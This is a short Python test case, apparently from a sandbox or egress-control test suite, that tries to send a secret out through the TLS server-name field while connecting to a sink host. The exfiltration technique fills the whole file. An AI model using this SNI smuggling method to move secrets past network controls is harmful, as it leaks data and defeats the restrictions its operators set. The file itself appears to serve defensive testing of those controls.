# class: network
# rule: outbound_connectivity
# success: a connection goes out and the server's name of TLS carries data
# proof: sink
# needs: module:ssl
import socket
import ssl

from attack import SECRET, SINK, attempt


@attempt
def connect():
    context = ssl.create_default_context()
    out = socket.create_connection(SINK, timeout=2)
    try:
        context.wrap_socket(out, server_hostname=SECRET + ".example")
    except (ssl.SSLError, OSError):
        pass
    return True
